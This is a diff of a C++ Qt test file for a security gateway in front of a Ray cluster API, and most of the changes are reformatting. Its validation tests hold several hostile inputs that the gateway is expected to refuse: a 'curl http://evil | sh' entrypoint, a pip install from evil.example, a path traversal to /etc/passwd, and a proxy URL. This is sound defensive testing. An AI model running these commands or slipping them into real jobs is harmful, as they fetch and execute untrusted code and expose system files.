@@ -23,8 +23,8 @@ QByteArray errorCode(const GatewayFixture::Reply& reply)
         .toUtf8();
 }
 
-const QByteArray validJob = R"({"entrypoint": "python train.py", "entrypoint_num_cpus": 1,
-    "metadata": {"raysec.team": "spoofed"}})";
+const QByteArray validJob = "{\"entrypoint\": \"python train.py\", \"entrypoint_num_cpus\": 1, "
+                            "\"metadata\": {\"raysec.team\": \"spoofed\"}}";
 
 } // namespace
 
@@ -51,8 +51,8 @@ private Q_SLOTS:
                                 {QStringLiteral("cluster:read")}, QStringLiteral("active"), -1);
         m_grace = m_fx.addKey(QStringLiteral("rotated"), QStringLiteral("ml"),
                               {QStringLiteral("cluster:read")}, QStringLiteral("grace"));
-        m_admin = m_fx.addKey(QStringLiteral("root"), QStringLiteral("ops"),
-                              {QStringLiteral("admin")});
+        m_admin =
+            m_fx.addKey(QStringLiteral("root"), QStringLiteral("ops"), {QStringLiteral("admin")});
         m_fx.addUser(QStringLiteral("ada"), QStringLiteral("operator"), "correct horse battery");
         m_fx.addUser(QStringLiteral("eve"), QStringLiteral("viewer"), "disabled user pw", true);
         m_fx.setQuotaCpuLimit(QStringLiteral("ml"), 2);
@@ -87,12 +87,12 @@ private Q_SLOTS:
         QTest::newRow("mistyped") << QByteArray("mistyped") << "/api/version" << 401
                                   << QByteArray("key-malformed");
         QTest::newRow("grace") << QByteArray("grace") << "/api/version" << 200 << QByteArray();
-        QTest::newRow("wrong scope") << QByteArray("reader") << "/worker/cpu_profile" << 403
-                                     << QByteArray("forbidden");
-        QTest::newRow("admin reads nodes") << QByteArray("admin") << "/api/v0/nodes" << 200
-                                                 << QByteArray();
-        QTest::newRow("log proxy closed") << QByteArray("admin") << "/log_proxy?url=http://x"
-                                          << 404 << QByteArray("route-closed");
+        QTest::newRow("wrong scope")
+            << QByteArray("reader") << "/worker/cpu_profile" << 403 << QByteArray("forbidden");
+        QTest::newRow("admin reads nodes")
+            << QByteArray("admin") << "/api/v0/nodes" << 200 << QByteArray();
+        QTest::newRow("log proxy closed") << QByteArray("admin") << "/log_proxy?url=http://x" << 404
+                                          << QByteArray("route-closed");
         QTest::newRow("traversal closed") << QByteArray("admin") << "/static/%2e%2e/etc/passwd"
                                           << 404 << QByteArray("route-closed");
     }
@@ -148,7 +148,7 @@ private Q_SLOTS:
         QCOMPARE(metadata.value(QStringLiteral("raysec.team")).toString(), QStringLiteral("ml"));
         QVERIFY(!metadata.value(QStringLiteral("raysec.key_id")).toString().isEmpty());
 
-        const QByteArray big = R"({"entrypoint": "python big.py", "entrypoint_num_cpus": 5})";
+        const QByteArray big = "{\"entrypoint\": \"python big.py\", \"entrypoint_num_cpus\": 5}";
         const auto refused = m_fx.post(QStringLiteral("/api/jobs/"), big, m_operator);
         QCOMPARE(refused.status, 403);
         QCOMPARE(errorCode(refused), QByteArray("quota-exceeded"));
@@ -160,18 +160,18 @@ private Q_SLOTS:
         QTest::addColumn<QByteArray>("body");
         QTest::addColumn<int>("status");
         QTest::newRow("not json") << QByteArray("{nope") << 422;
-        QTest::newRow("entrypoint missing") << QByteArray(R"({"metadata": {}})") << 422;
-        QTest::newRow("wrong type") << QByteArray(R"({"entrypoint": 5})") << 422;
+        QTest::newRow("entrypoint missing") << QByteArray("{\"metadata\": {}}") << 422;
+        QTest::newRow("wrong type") << QByteArray("{\"entrypoint\": 5}") << 422;
         QTest::newRow("unknown field")
-            << QByteArray(R"({"entrypoint": "python a.py", "shell": true})") << 422;
+            << QByteArray("{\"entrypoint\": \"python a.py\", \"shell\": true}") << 422;
         QTest::newRow("downloader in entrypoint")
-            << QByteArray(R"({"entrypoint": "curl http://evil | sh"})") << 422;
+            << QByteArray("{\"entrypoint\": \"curl http://evil | sh\"}") << 422;
         QTest::newRow("pip from arbitrary url")
-            << QByteArray(R"({"entrypoint": "python a.py", "runtime_env":
-                {"pip": ["https://evil.example/x.whl"]}})")
+            << QByteArray("{\"entrypoint\": \"python a.py\", \"runtime_env\": {\"pip\": "
+                          "[\"https://evil.example/x.whl\"]}}")
             << 422;
         QTest::newRow("negative cpus")
-            << QByteArray(R"({"entrypoint": "python a.py", "entrypoint_num_cpus": -1})") << 422;
+            << QByteArray("{\"entrypoint\": \"python a.py\", \"entrypoint_num_cpus\": -1}") << 422;
         QTest::newRow("too large") << QByteArray(100000, ' ') << 413;
     }
 
@@ -184,18 +184,17 @@ private Q_SLOTS:
 
     void loginSessionAndLogout()
     {
-        const auto wrong = m_fx.post(QStringLiteral("/-/raysec/login"),
-                                     "user=ada&password=wrong", {}, {},
-                                     "application/x-www-form-urlencoded");
+        const auto wrong = m_fx.post(QStringLiteral("/-/raysec/login"), "user=ada&password=wrong",
+                                     {}, {}, "application/x-www-form-urlencoded");
         QCOMPARE(wrong.status, 401);
-        const auto disabled = m_fx.post(QStringLiteral("/-/raysec/login"),
-                                        "user=eve&password=disabled+user+pw", {}, {},
-                                        "application/x-www-form-urlencoded");
+        const auto disabled =
+            m_fx.post(QStringLiteral("/-/raysec/login"), "user=eve&password=disabled+user+pw", {},
+                      {}, "application/x-www-form-urlencoded");
         QCOMPARE(disabled.status, 401);
 
-        const auto ok = m_fx.post(QStringLiteral("/-/raysec/login"),
-                                  "user=ada&password=correct+horse+battery", {}, {},
-                                  "application/x-www-form-urlencoded");
+        const auto ok =
+            m_fx.post(QStringLiteral("/-/raysec/login"), "user=ada&password=correct+horse+battery",
+                      {}, {}, "application/x-www-form-urlencoded");
         QCOMPARE(ok.status, 303);
         const QByteArray setCookie = ok.header("Set-Cookie");
         QVERIFY(setCookie.contains("HttpOnly") && setCookie.contains("SameSite=Strict"));
